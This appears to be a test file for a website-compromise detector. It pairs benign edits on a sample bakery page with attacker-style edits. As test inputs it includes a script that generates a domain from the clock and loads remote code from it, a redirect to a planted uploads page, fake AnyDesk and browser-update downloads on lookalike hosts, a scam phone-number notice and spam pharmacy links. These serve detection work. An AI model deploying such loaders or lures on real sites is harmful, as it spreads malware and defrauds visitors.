/**
 * The rules of round 22 (tuned on fresh25 and fresh26 after their first
 * looks), on the hand-written bakery page: each with the change it catches
 * and the honest change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

const script = (code: string) => `<script>${code}</script>`

describe("round 22: honest mechanisms are weighed by who runs them", () => {
  it("a script sending visitors to the site's own mobile host or an A/B variant is a sign; to a page in its uploads folder it alerts", () => {
    const mobile = verdictOf(page({ seed: 4, body: script(`if(/Mobi/.test(navigator.userAgent)&&!document.cookie.includes("full=1"))location.href="https://m.harbourbakery.co.uk"+location.pathname`) }))
    expect(checks(mobile)).toContain("destinations/redirect_same_site")
    expect(breaches(mobile)).toEqual([])
    const variant = verdictOf(page({ seed: 4, body: script(`if(Math.random()<0.5)location.replace("/lp/new-home-b/")`) }))
    expect(breaches(variant)).toEqual([])
    const planted = verdictOf(page({ seed: 4, body: script(`location.replace("/wp-content/uploads/2026/11/secure/index.html")`) }))
    expect(breaches(planted)).toContain("destinations/redirect_same_site")
  })

  it("an ad-management partner's or a push vendor's tag is reported; a script from an unknown host alerts", () => {
    const partner = verdictOf(page({ seed: 4, head: `<script async data-cfasync="false" src="//scripts.mediavine.com/tags/harbour-bakery.js"></script>`, body: `<div class="mv-ad-box" data-slotname="content_1"></div>` }))
    expect(breaches(partner)).toEqual([])
    const push = verdictOf(page({ seed: 4, head: `<script src="https://static.cleverpush.com/channel/loader/Xy12ab34Cd56ef78g.js" async></script>` }))
    expect(breaches(push)).toEqual([])
    const unknown = verdictOf(page({ seed: 4, head: `<script async src="https://static.harbour-widgets.top/tags/harbour-bakery.js"></script>` }))
    expect(breaches(unknown)).toContain("destinations/script_new_domain")
  })

  it("the site's file listed on mirrors, and a program from its own publisher, are reported; the same file from one new host alerts", () => {
    const mirrors = (hosts: ReadonlyArray<string>) =>
      page({ seed: 4, body: `<section><h3>Download mirrors: harbour-menu-2.4.1.zip</h3><ul>${hosts.map((h) => `<li><a href="https://${h}/pub/harbour/harbour-menu-2.4.1.zip">${h}</a></li>`).join("")}</ul></section>` })
    expect(breaches(verdictOf(mirrors(["ftp.fau.de", "mirror.aarnet.edu.au", "ftp.heanet.ie"])))).toEqual([])
    expect(breaches(verdictOf(mirrors(["fast-files.top"])))).toContain("destinations/download_new_domain")
    const remote = (href: string) => verdictOf(page({ seed: 4, body: `<p>Our technician will give you a session code: <a href="${href}">download the remote support tool</a>.</p>` }))
    expect(breaches(remote("https://download.anydesk.com/AnyDesk.exe"))).toEqual([])
    expect(breaches(remote("https://anydesk-support.top/AnyDesk.exe"))).toContain("destinations/download_new_domain")
    expect(breaches(remote("https://download-update.com/AnyDesk.exe"))).toContain("destinations/download_new_domain")
  })

  it("a release of the site's own software on its own host is reported; another program there is a sign", () => {
    const release = verdictOf(page({ seed: 4, body: `<p><a href="/downloads/harbourbakery-2.12.6-release.apk">Download the app (version 2.12.6)</a></p>` }))
    expect(release.findings.find((f) => f.check === "download_own_site")?.severity).toBe("low")
    const other = verdictOf(page({ seed: 4, body: `<p><a href="/downloads/ChromeUpdate.apk">Update your browser</a></p>` }))
    expect(other.findings.find((f) => f.check === "download_own_site")?.severity).toBe("medium")
  })

  it("a disclosed partnership linking the company it names is reported; the same notice to an unnamed host alerts", () => {
    const card = (href: string, rel: string) =>
      verdictOf(page({ seed: 4, top: `<aside style="background:#fffbea;padding:14px"><small>Sponsored by Octopus Energy</small><h3><a href="${href}"${rel}>How to cut your energy bill this winter</a></h3><p>This content was paid for by Octopus Energy.</p></aside>` }))
    expect(breaches(card("https://octopus.energy/lp/?utm_medium=sponsored", ` rel="sponsored noopener"`))).toEqual([])
    expect(breaches(card("https://octopus.energy/lp/?utm_medium=sponsored", ""))).toEqual([])
    expect(breaches(card("https://energy-bill-help.net/lp/", ` rel="sponsored"`))).toContain("destinations/link_prominent")
  })
})

describe("round 22: what compromises change", () => {
  it("a script that makes up its host name from the clock alerts; one that names its sharded host does not", () => {
    const dga = verdictOf(page({ seed: 4, body: script(`(function(){var t=Math.floor(Date.now()/6e5),a="abcdefghijklmnopqrstuvwxyz",h="",n=t*7919%2147483647;for(var i=0;i<10;i++){h+=a.charAt(n%26);n=Math.floor(n/26)}var s=document.createElement("script");s.src="https://"+h+".top/js/"+t+".js";document.head.appendChild(s)})()`) }))
    expect(breaches(dga)).toContain("destinations/script_generated_domain")
    const sharded = verdictOf(page({ seed: 4, body: script(`var r=["eu","us"][new Date().getTimezoneOffset()<0?0:1];var i=new Image();i.src="https://"+r+".harbourbakery.co.uk/px.gif"`) }))
    expect(breaches(sharded)).toEqual([])
  })

  it("sentences in three languages the page never used alert; a notice in one other language is a sign", () => {
    const code = `<div lang="pt"><p>Use o código de indicação para ganhar desconto nas taxas e um bônus de cadastro.</p></div><div lang="de"><p>Mit dem Empfehlungscode erhalten Sie Rabatt auf Handelsgebühren und einen Bonus bei der Anmeldung.</p></div><div lang="fr"><p>Utilisez le code de parrainage pour obtenir une réduction sur les frais et un bonus d'inscription.</p></div>`
    const many = verdictOf(page({ seed: 4, body: code }))
    expect(many.findings.find((f) => f.check === "language")?.severity).toBe("high")
    const one = verdictOf(page({ seed: 4, body: `<div lang="fr"><p>Nous accueillons aussi nos visiteurs francophones : demandez la carte en français au comptoir.</p></div>` }))
    expect(one.findings.find((f) => f.check === "language")?.severity).toBe("medium")
  })

  it("a new number given as a stand-in for the usual lines alerts; a waiting-time line under the usual number does not", () => {
    const standIn = verdictOf(page({ seed: 4, body: `<p>Our landlines are currently down because of a fault at our provider. Until they are restored, please call or WhatsApp our temporary number 07700 900 461.</p>` }))
    expect(breaches(standIn)).toContain("identifiers/phone_stand_in")
    const busy = verdictOf(page({ seed: 4, body: `<p>We are busier than usual on the phone this week: expect to wait about ten minutes, or use our contact form.</p>` }))
    expect(breaches(busy)).toEqual([])
  })

  it("the same new words put into many of the page's own paragraphs alert; a word changed in each does not", () => {
    const base = baselineOf(samples((seed) => page({ seed, main: `<p>This season we are baking rye and caraway loaves, cardamom buns and a lemon drizzle that regulars queue for on Saturdays.</p><p>Celebration cakes can be ordered with a week's notice and collected from the shop on the pier any morning.</p>` })))
    const slogan = " Stop the war now."
    const spread = page({ seed: 4, main: `<p>This season we are baking rye and caraway loaves, cardamom buns and a lemon drizzle that regulars queue for on Saturdays.${slogan}</p><p>Celebration cakes can be ordered with a week's notice and collected from the shop on the pier any morning.${slogan}</p>` })
      .replace("Everything we sell is made on the premises from flour milled in North Yorkshire.", `Everything we sell is made on the premises from flour milled in North Yorkshire.${slogan}`)
      .replace("are always welcome downstairs.", `are always welcome downstairs.${slogan}`)
    expect(breaches(verdictOf(spread, base))).toContain("visible_text/phrase_spread")
    const edits = page({ seed: 4, main: `<p>This season we are baking rye and caraway loaves, cardamom buns and a lemon drizzle that regulars queue for on Sundays.</p><p>Celebration cakes can be ordered with two weeks' notice and collected from the shop on the pier any morning.</p>` })
    expect(breaches(verdictOf(edits, base))).toEqual([])
  })

  it("a list of prescription injections sold from one new shop, 'without prescription', alerts; a news item citing two sources does not", () => {
    const shop = verdictOf(page({ seed: 4, body: `<section><p>Lose up to 15% of your weight. Original pens delivered chilled in 24–48 hours, without prescription.</p><p><a href="https://slim-pens.tech/wegovy">Wegovy 2.4 mg</a> — £245</p><p><a href="https://slim-pens.tech/mounjaro">Mounjaro 10 mg</a> — £264</p><p><a href="https://slim-pens.tech/ozempic">Ozempic 1 mg</a> — £96</p></section>` }))
    expect(breaches(shop)).toContain("destinations/spam_links")
    const news = verdictOf(page({ seed: 4, body: `<p>Regulators warn against buying Ozempic online: read the <a href="https://www.nhs.uk/medicines/semaglutide/">NHS guidance</a> and the <a href="https://www.bbc.co.uk/news/health-1">BBC report</a>.</p>` }))
    expect(breaches(news)).toEqual([])
  })
})
